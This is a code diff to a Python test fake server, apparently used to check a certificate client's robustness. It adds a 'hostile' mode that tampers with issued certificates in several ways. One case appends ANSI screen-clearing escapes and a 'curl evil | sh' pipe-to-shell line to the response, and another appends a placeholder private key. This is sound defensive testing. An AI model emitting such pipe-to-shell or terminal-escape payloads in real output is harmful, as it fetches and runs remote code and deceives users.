@@ -25,6 +25,16 @@ every POST (any path) as MODE says:
                       forwards the body to UPSTREAM + path instead and
                       relays the answer, so the client gets a
                       certificate for its own key
+  hostile DIR UPSTREAM
+                      forwards each request to UPSTREAM as record does,
+                      then tampers with the answer as the file DIR/how
+                      (read per request) says: otherkey (DIR/other.pem
+                      instead), ca (DIR/ca.pem instead), foreign-first
+                      (DIR/other.pem before the leaf), dupkey (a second
+                      "certificate" key holding DIR/other.pem), privkey
+                      (a PRIVATE KEY block after the leaf), ansi (shell
+                      text with ANSI escapes after it), padding (3 MiB
+                      after it), pass (unchanged)
 
 Python 3 standard library only.  It runs until killed (SIGTERM).
 """
@@ -42,7 +52,8 @@ import urllib.request
 
 def usage():
     sys.stderr.write("usage: remote-fake.py garbage200|html500|truncated|"
-                     "cutoff|slow|record DIR CERTFILE [UPSTREAM]\n")
+                     "cutoff|slow|record DIR CERTFILE [UPSTREAM]|"
+                     "hostile DIR UPSTREAM\n")
     sys.exit(2)
 
 
@@ -149,8 +160,50 @@ class Handler(http.server.BaseHTTPRequestHandler):
                 status, ctype, answer = (e.code, e.headers["Content-Type"],
                                          e.read())
             self.send(status, ctype or "text/plain", answer)
+        elif mode == "hostile":
+            self.hostile(body)
         else:
             self.send(500, "text/plain", b"unknown mode\n")
+
+    def hostile(self, body):
+        req = urllib.request.Request(
+            self.upstream + self.path, data=body, method="POST",
+            headers={"Content-Type": "application/json"})
+        with urllib.request.urlopen(req, timeout=20) as r:
+            env = json.loads(r.read())
+        with open(os.path.join(self.record_dir, "how")) as f:
+            how = f.read().strip()
+
+        def read(name):
+            with open(os.path.join(self.record_dir, name)) as f:
+                return f.read()
+        leaf = env["result"]["certificate"]
+        res = env["result"]
+        if how == "otherkey":
+            res["certificate"] = read("other.pem")
+        elif how == "ca":
+            res["certificate"] = read("ca.pem")
+        elif how == "foreign-first":
+            res["certificate"] = read("other.pem") + leaf
+        elif how == "privkey":
+            res["certificate"] = (leaf + "-----BEGIN PRIVATE KEY-----\n"
+                                  "MC4CAQAwBQYDK2VwBCIEIJ+0000000000000000"
+                                  "0000000000000000000000000\n"
+                                  "-----END PRIVATE KEY-----\n")
+        elif how == "ansi":
+            res["certificate"] = leaf + "\x1b[2J\x1b[31mcurl evil | sh\n"
+        elif how == "padding":
+            res["certificate"] = leaf + "A" * (3 * 1024 * 1024)
+        text = json.dumps(env)
+        if how == "dupkey":
+            text = text.replace('"result": {', '"result": {"certificate": '
+                                + json.dumps(leaf) + ', ', 1)
+            text = text.replace('"certificate": ' + json.dumps(leaf) + ', '
+                                + '"certificate": ' + json.dumps(leaf),
+                                '"certificate": ' + json.dumps(leaf) + ', '
+                                + '"certificate": '
+                                + json.dumps(read("other.pem")), 1)
+        self.send(200, "application/json", (text + "\n").encode())
 
 
 def main():
@@ -165,6 +218,11 @@ def main():
             Handler.upstream = sys.argv[4].rstrip("/")
         with open(sys.argv[3]) as f:
             Handler.cert_pem = f.read()
+    elif mode == "hostile":
+        if len(sys.argv) != 4:
+            usage()
+        Handler.record_dir = sys.argv[2]
+        Handler.upstream = sys.argv[3].rstrip("/")
     elif mode not in ("garbage200", "html500", "truncated", "cutoff",
                       "slow") or len(sys.argv) != 2:
         usage()
